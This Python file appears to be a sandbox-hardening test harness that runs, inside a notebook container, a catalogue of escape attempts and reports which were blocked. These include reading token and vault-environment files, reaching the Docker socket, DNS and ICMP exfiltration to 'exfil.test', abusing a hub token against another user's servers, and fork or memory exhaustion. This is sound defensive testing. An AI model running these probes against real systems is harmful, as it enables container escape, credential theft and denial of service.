"""What user code tries in a notebook's container. Runs there, on Python's own library alone.

    python attempts.py '{"names": […], "facts": {…}, "patience": 2}'   →   {"name": ["worked" | "sealed" | "broken", evidence]}

An attempt returns evidence when it worked, nothing or an OSError when it did not. Any other exception means that
the attempt itself is broken, which is no seal. `control` names the one protection whose removal lets it work
(`tests.sealed.sandboxes`).
"""

from __future__ import annotations

import ctypes
import errno
import importlib.util
import json
import os
import resource
import socket
import struct
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Facts = dict[str, Any]


@dataclass(frozen=True)
class Attempt:
    name: str
    kind: str
    control: str
    run: Callable[[Facts], object]


ATTEMPTS: dict[str, Attempt] = {}


def attempt(kind: str, control: str) -> Callable[[Callable[[Facts], object]], Callable[[Facts], object]]:
    def add(run: Callable[[Facts], object]) -> Callable[[Facts], object]:
        ATTEMPTS[run.__name__] = Attempt(run.__name__, kind, control, run)
        return run

    return add


# ------------------------------------------------------------------------------------------ means

libc = ctypes.CDLL(None, use_errno=True)

PATIENCE = 2.0
"""Seconds that a packet is waited for; where it should arrive the order says more, for a machine that is busy."""


def call(number: int, *arguments: object) -> int:
    """A system call by its number on x86-64; raises OSError as Python does."""
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def tcp(host: str, port: int, *, device: str = "", say: bytes = b"") -> object:
    with socket.socket() as connection:
        connection.settimeout(PATIENCE)
        if device:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        connection.connect((host, port))
        if say:
            connection.sendall(say)
            return connection.recv(100)
        return f"connected to {host}:{port}"


def mapped(host: str, port: int) -> object:
    """To an IPv4 address through an IPv6 socket."""
    with socket.socket(socket.AF_INET6) as connection:
        connection.settimeout(PATIENCE)
        connection.connect((f"::ffff:{host}", port))
        return f"connected to {host}:{port}"


def udp(host: str, port: int, message: bytes, *, device: str = "") -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(PATIENCE)
        if device:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        connection.sendto(message, (host, port))
        return connection.recv(512)


def first(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(64)


def http(url: str, token: str = "", method: str = "GET") -> object:
    """The answer's status if it was let through."""
    request = urllib.request.Request(url, method=method, headers={"Authorization": f"token {token}"})
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
            request, timeout=PATIENCE + 5
        ) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        if error.code in (401, 403, 404):
            raise PermissionError(error.code, "refused") from error
        return error.code


# ------------------------------------------------------------------------------------------- file


@attempt("file", "mounts")
def list_restricted(facts: Facts) -> object:
    return os.listdir(facts["restricted"])


@attempt("file", "mounts")
def find_restricted_file(facts: Facts) -> object:
    for folder, _, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys")):
            continue
        for name in files:
            if name == "data.duckdb":
                return f"{folder}/{name}"
    return None


@attempt("file", "mounts")
def read_vault_configuration(facts: Facts) -> object:
    return first("/etc/sandbox-guard-vault.json")


@attempt("file", "mounts")
def read_service_token(facts: Facts) -> object:
    return first(f"{facts['home']}/keys/hub.token")


@attempt("file", "mounts")
def read_other_members_home(facts: Facts) -> object:
    return os.listdir(f"{facts['home']}/homes/{facts['neighbour']}")


@attempt("file", "mounts")
def reach_the_engine(facts: Facts) -> object:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("/var/run/docker.sock")
        return "the engine's socket"


@attempt("file", "writable root")
def plant_code(facts: Facts) -> object:
    with open("/opt/sandbox-guard/planted.py", "w") as file:
        return file.write("planted")


@attempt("file", "writable root")
def alter_the_client(facts: Facts) -> object:
    found = importlib.util.find_spec("sandbox_guard")
    assert found is not None and found.origin is not None
    with open(found.origin, "a") as file:
        return file.write("\n")


# ---------------------------------------------------------------------------------------- process


@attempt("process", "host processes")
def see_the_vault(facts: Facts) -> object:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"sandbox_guard.vault" in first(f"/proc/{pid}/cmdline"):
                return pid
        except OSError:
            pass
    return None


@attempt("process", "host processes")
def read_the_vaults_environment(facts: Facts) -> object:
    return first(f"/proc/{facts['vault_pid']}/environ")


@attempt("process", "host processes")
def signal_the_vault(facts: Facts) -> object:
    os.kill(facts["vault_pid"], 0)
    return "it would have heard"


@attempt("process", "host processes")
def open_the_vaults_namespaces(facts: Facts) -> object:
    return os.readlink(f"/proc/{facts['vault_pid']}/ns/net")


@attempt("process", "host processes")
def open_the_vaults_root(facts: Facts) -> object:
    return os.listdir(f"/proc/{facts['vault_pid']}/root{facts['restricted']}")


@attempt("process", "host processes")
def ask_the_vaults_priority(facts: Facts) -> object:
    return f"nice {os.getpriority(os.PRIO_PROCESS, facts['vault_pid'])}"


@attempt("process", "seccomp")
def be_traced(facts: Facts) -> object:
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.ptrace(0, 0, None, None) == 0 else 1)  # PTRACE_TRACEME
    return os.waitpid(child, 0)[1] == 0


# ----------------------------------------------------------------------------------------- memory


@attempt("memory", "seccomp")
def read_a_process(facts: Facts) -> object:
    source, target = ctypes.create_string_buffer(b"secret"), ctypes.create_string_buffer(8)

    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    local = Span(ctypes.cast(target, ctypes.c_void_p), 6)
    remote = Span(ctypes.cast(source, ctypes.c_void_p), 6)
    return call(310, os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


@attempt("memory", "seccomp")
def make_system_v_memory(facts: Facts) -> object:
    identity = call(29, 0, 4096, 0o1600)  # shmget(IPC_PRIVATE)
    return f"segment {identity}"


@attempt("memory", "seccomp")
def see_what_is_cached(facts: Facts) -> object:
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0))
    call(27, ctypes.c_void_p(page), ctypes.c_size_t(4096), ctypes.create_string_buffer(1))  # mincore
    return "residency"


@attempt("memory", "seccomp")
def handle_page_faults(facts: Facts) -> object:
    return f"descriptor {call(323, 1)}"  # userfaultfd(UFFD_USER_MODE_ONLY)


@attempt("memory", "shared memory")
def read_shared_memory(facts: Facts) -> object:
    return first("/dev/shm/" + facts["shared_memory"])


@attempt("memory", "devices")
def read_the_kernels_messages(facts: Facts) -> object:
    descriptor = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, 8192)
    finally:
        os.close(descriptor)


# ---------------------------------------------------------------------------------------- network


@attempt("network", "outward network")
def connect_outside(facts: Facts) -> object:
    return tcp(facts["outside"], facts["tcp"])


@attempt("network", "outward network")
def connect_outside_past_the_routes(facts: Facts) -> object:
    return tcp(facts["outside"], facts["tcp"], device=facts["device"])


@attempt("network", "outward network")
def send_a_datagram_outside(facts: Facts) -> object:
    return udp(facts["outside"], facts["udp"], b"hello")


@attempt("network", "outward network")
def send_a_datagram_past_the_routes(facts: Facts) -> object:
    return udp(facts["outside"], facts["udp"], b"hello", device=facts["device"])


@attempt("network", "outward network")
def find_a_gateway_that_answers(facts: Facts) -> object:
    """The engine writes a default route into every container; where nobody holds its address it leads nowhere."""
    with open("/proc/net/route") as routes:
        ways = [line.split()[2] for line in routes if line.split()[1] == "00000000"]
    gateways = [socket.inet_ntoa(struct.pack("<L", int(way, 16))) for way in ways]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(b"hello", (facts["outside"], facts["udp"]))
    deadline = time.monotonic() + PATIENCE
    while time.monotonic() < deadline:
        time.sleep(0.1)
        with open("/proc/net/arp") as neighbours:
            found = [line for line in neighbours if line.split()[0] in gateways and line.split()[2] == "0x2"]
        if found:
            return found
    return None


@attempt("network", "outward network")
def connect_outside_over_a_mapped_address(facts: Facts) -> object:
    return mapped(facts["outside"], facts["tcp"])


@attempt("network", "outward network")
def send_outside_with_the_first_packet(facts: Facts) -> object:
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", int(PATIENCE), 0))
        return connection.sendto(b"hello", socket.MSG_FASTOPEN, (facts["outside"], facts["tcp"]))


@attempt("network", "outward network")
def ping_outside(facts: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(PATIENCE)
        connection.sendto(struct.pack("!BBHHH8s", 8, 0, 0, 0, 1, b"exfiltra"), (facts["outside"], 0))
        return connection.recv(100)


@attempt("network", "raw sockets")
def forge_packets(facts: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW):
        return "a raw socket"


# ---------------------------------------------------------------------------------- host services


@attempt("host services", "host on the bridge")
def connect_to_the_bridge(facts: Facts) -> object:
    return tcp(facts["gateway"], facts["tcp"])


@attempt("host services", "host on the bridge")
def connect_to_the_bridge_past_the_routes(facts: Facts) -> object:
    return tcp(facts["gateway"], facts["tcp"], device=facts["device"])


@attempt("host services", "host on the bridge")
def send_a_datagram_to_the_bridge(facts: Facts) -> object:
    return udp(facts["gateway"], facts["udp"], b"hello")


@attempt("host services", "uplink")
def connect_to_the_hub_itself(facts: Facts) -> object:
    return tcp(facts["services"], facts["hub_port"])


@attempt("host services", "uplink")
def open_the_hubs_sign_in(facts: Facts) -> object:
    return http(f"http://{facts['services']}:{facts['hub_port']}/hub/login")


@attempt("host services", "uplink")
def connect_to_a_service_of_the_host(facts: Facts) -> object:
    return tcp(facts["services"], facts["tcp"])


@attempt("host services", "host network")
def connect_to_the_hosts_own_address(facts: Facts) -> object:
    return tcp("127.0.0.1", facts["tcp"])


# ------------------------------------------------------------------------------------- neighbours


@attempt("neighbours", "neighbour's network")
def connect_to_the_neighbours_notebook(facts: Facts) -> object:
    return tcp(*facts["their_notebook"])


@attempt("neighbours", "neighbour's network")
def connect_to_the_neighbours_vault(facts: Facts) -> object:
    return tcp(*facts["their_vault"])


@attempt("neighbours", "neighbour's network")
def connect_to_the_neighbours_gate(facts: Facts) -> object:
    return tcp(*facts["their_gate"])


@attempt("neighbours", "neighbour's network")
def ask_the_neighbours_vault_past_the_routes(facts: Facts) -> object:
    return tcp(*facts["their_vault"], device=facts["device"])


@attempt("neighbours", "neighbour's network")
def connect_to_the_neighbours_vault_over_a_mapped_address(facts: Facts) -> object:
    return mapped(*facts["their_vault"])


@attempt("neighbours", "neighbour's network")
def find_the_neighbour_by_name(facts: Facts) -> object:
    return socket.gethostbyname(facts["their_name"])


@attempt("neighbours", "neighbour's network")
def ping_the_neighbour(facts: Facts) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(PATIENCE)
        connection.sendto(
            struct.pack("!BBHHH8s", 8, 0, 0, 0, 1, b"neighbor"), (facts["their_notebook"][0], 0)
        )
        return connection.recv(100)


# -------------------------------------------------------------------------------------------- dns


def query(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def answered(reply: bytes) -> object:
    """Did the answer come from the server outside, which answers every name?"""
    return reply if struct.unpack("!H", reply[6:8])[0] else None


@attempt("dns", "resolver")
def resolve_a_name(facts: Facts) -> object:
    try:
        return socket.gethostbyname("secret.exfil.test")
    except socket.gaierror as error:
        raise OSError(errno.EHOSTUNREACH, str(error)) from error


@attempt("dns", "resolver")
def tunnel_in_a_label(facts: Facts) -> object:
    return answered(udp(facts["own_resolver"], 53, query("a" * 63 + ".exfil.test", 1)))


@attempt("dns", "resolver")
def tunnel_back_in_text(facts: Facts) -> object:
    return answered(udp(facts["own_resolver"], 53, query("text.exfil.test", 16)))


@attempt("dns", "resolver")
def tunnel_by_reverse_look_up(facts: Facts) -> object:
    return answered(udp(facts["own_resolver"], 53, query("4.3.2.1.in-addr.arpa", 12)))


@attempt("dns", "resolver")
def ask_the_outer_resolver(facts: Facts) -> object:
    return answered(udp(facts["resolver"], 53, query("direct.exfil.test", 1)))


@attempt("dns", "resolver")
def ask_the_outer_resolver_past_the_routes(facts: Facts) -> object:
    return answered(udp(facts["resolver"], 53, query("direct.exfil.test", 1), device=facts["device"]))


# ----------------------------------------------------------------------------------------- tokens


@attempt("tokens", "stronger token")
def read_the_neighbour(facts: Facts) -> object:
    return http(f"{facts['hub']}/hub/api/users/{facts['neighbour']}", facts["token"])


@attempt("tokens", "stronger token")
def watch_the_neighbour_start(facts: Facts) -> object:
    server = f"{facts['neighbour']}/servers/{facts['neighbours_server']}"
    return http(f"{facts['hub']}/hub/api/users/{server}/progress", facts["token"])


@attempt("tokens", "stronger token")
def stop_the_neighbours_unnamed_server(facts: Facts) -> object:
    return http(f"{facts['hub']}/hub/api/users/{facts['neighbour']}/server", facts["token"], "DELETE")


@attempt("tokens", "stronger token")
def start_another_server(facts: Facts) -> object:
    return http(
        f"{facts['hub']}/hub/api/users/{facts['neighbour']}/servers/{facts['neighbours_server']}",
        facts["token"],
        "POST",
    )


@attempt("tokens", "stronger token")
def stop_the_neighbours_server(facts: Facts) -> object:
    name = facts["neighbours_server"]
    return http(f"{facts['hub']}/hub/api/users/{facts['neighbour']}/servers/{name}", facts["token"], "DELETE")


# ----------------------------------------------------------------------------------------- ledger


@attempt("ledger", "uplink")
def connect_to_the_ledger(facts: Facts) -> object:
    return tcp(facts["services"], facts["ledger_port"])


@attempt("ledger", "uplink")
def read_the_ledgers_health(facts: Facts) -> object:
    return http(f"http://{facts['services']}:{facts['ledger_port']}/health")


@attempt("ledger", "uplink")
def read_the_ledgers_key(facts: Facts) -> object:
    return http(f"http://{facts['services']}:{facts['ledger_port']}/v1/public-key")


@attempt("ledger", "uplink")
def speak_to_the_ledger(facts: Facts) -> object:
    return tcp(facts["services"], facts["ledger_port"], say=b"GET /health HTTP/1.0\r\n\r\n")


@attempt("ledger", "uplink")
def connect_to_the_ledger_past_the_routes(facts: Facts) -> object:
    return tcp(facts["services"], facts["ledger_port"], device=facts["device"])


# ------------------------------------------------------------------------------ kernel interfaces


def family(number: int, kind: int = socket.SOCK_DGRAM, protocol: int = 0) -> object:
    with socket.socket(number, kind, protocol):
        return f"a socket of family {number}"


@attempt("kernel interfaces", "seccomp")
def open_vsock(facts: Facts) -> object:
    return family(40, socket.SOCK_STREAM)


@attempt("kernel interfaces", "seccomp")
def keep_something_in_the_kernel(facts: Facts) -> object:
    return f"key {call(248, b'user', b'sandbox-guard-test', b'x', 1, -2)}"  # add_key, process keyring


@attempt("kernel interfaces", "seccomp")
def listen_to_device_events(facts: Facts) -> object:
    return family(16, socket.SOCK_DGRAM, 15)


@attempt("kernel interfaces", "seccomp")
def set_up_io_uring(facts: Facts) -> object:
    parameters = ctypes.create_string_buffer(120)
    return f"ring {call(425, 4, parameters)}"


@attempt("kernel interfaces", "seccomp")
def make_a_user_namespace(facts: Facts) -> object:
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.unshare(0x10000000) == 0 else 1)
    return os.waitpid(child, 0)[1] == 0


@attempt("kernel interfaces", "seccomp")
def use_the_kernels_keyring(facts: Facts) -> object:
    return f"keyring {call(250, 0, -3, 1)}"


@attempt("kernel interfaces", "seccomp")
def fix_the_addresses(facts: Facts) -> object:
    return call(135, 0x0040000) >= 0  # personality(ADDR_NO_RANDOMIZE)


# -------------------------------------------------------------------------------------- resources


@attempt("resources", "limits")
def fork_without_end(facts: Facts) -> object:
    children = []
    try:
        for _ in range(facts["processes"]):
            child = os.fork()
            if child == 0:
                time.sleep(120)
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
    return f"{len(children)} processes"


@attempt("resources", "limits")
def take_all_memory(facts: Facts) -> object:
    """In a child: the kernel ends whoever goes past the limit."""
    child = os.fork()
    if child == 0:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("1000")
        try:
            held = [b"x" * (256 * 2**20) for _ in range(10)]
        except MemoryError:
            os._exit(1)
        os._exit(0 if held else 1)
    return os.waitpid(child, 0)[1] == 0


@attempt("resources", "limits")
def fill_the_temporary_disk(facts: Facts) -> object:
    with tempfile.TemporaryFile() as file:
        for _ in range(300):
            file.write(b"x" * 2**20)
        return "300 MiB"


@attempt("resources", "limits")
def open_files_without_end(facts: Facts) -> object:
    files = []
    try:
        for _ in range(6000):
            files.append(os.open("/dev/null", os.O_RDONLY))
    finally:
        for each in files:
            os.close(each)
    return f"{len(files)} files"


@attempt("resources", "limits")
def raise_the_limits(facts: Facts) -> object:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard >= 10_000:
        return hard
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))
    except ValueError as error:
        raise OSError(errno.EPERM, str(error)) from error
    return hard + 1


@attempt("resources", "limits")
def run_on_the_vaults_cores(facts: Facts) -> object:
    os.sched_setaffinity(0, set(facts["vault_cores"]))
    return sorted(os.sched_getaffinity(0) & set(facts["vault_cores"]))


# ------------------------------------------------------------------------------------------- time


@attempt("time", "counters")
def read_processor_time(facts: Facts) -> object:
    return first("/proc/stat")


@attempt("time", "counters")
def read_load(facts: Facts) -> object:
    return first("/proc/loadavg")


@attempt("time", "counters")
def read_free_memory(facts: Facts) -> object:
    return first("/proc/meminfo")


@attempt("time", "counters")
def read_paging(facts: Facts) -> object:
    return first("/proc/vmstat")


@attempt("time", "counters")
def read_interrupts(facts: Facts) -> object:
    return first("/proc/interrupts")


@attempt("time", "counters")
def read_disk_counters(facts: Facts) -> object:
    return first("/proc/diskstats")


@attempt("time", "counters")
def read_block_devices(facts: Facts) -> object:
    return [first(f"/sys/block/{name}/stat") for name in os.listdir("/sys/block")]


@attempt("time", "seccomp")
def ask_the_kernel_for_the_load(facts: Facts) -> object:
    answer = ctypes.create_string_buffer(256)
    call(99, answer)  # sysinfo
    return answer.raw[:32]


def main() -> None:
    global PATIENCE
    order = json.loads(sys.argv[1])
    PATIENCE = order.get("patience", PATIENCE)
    seen = {}
    for name in order["names"]:
        try:
            evidence = ATTEMPTS[name].run(order["facts"])
            seen[name] = ("worked" if evidence else "sealed", repr(evidence)[:100])
        except OSError as error:
            seen[name] = ("sealed", repr(error)[:100])
        except Exception as error:  # noqa: BLE001  an attempt that does not run is reported as such
            seen[name] = ("broken", repr(error)[:100])
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
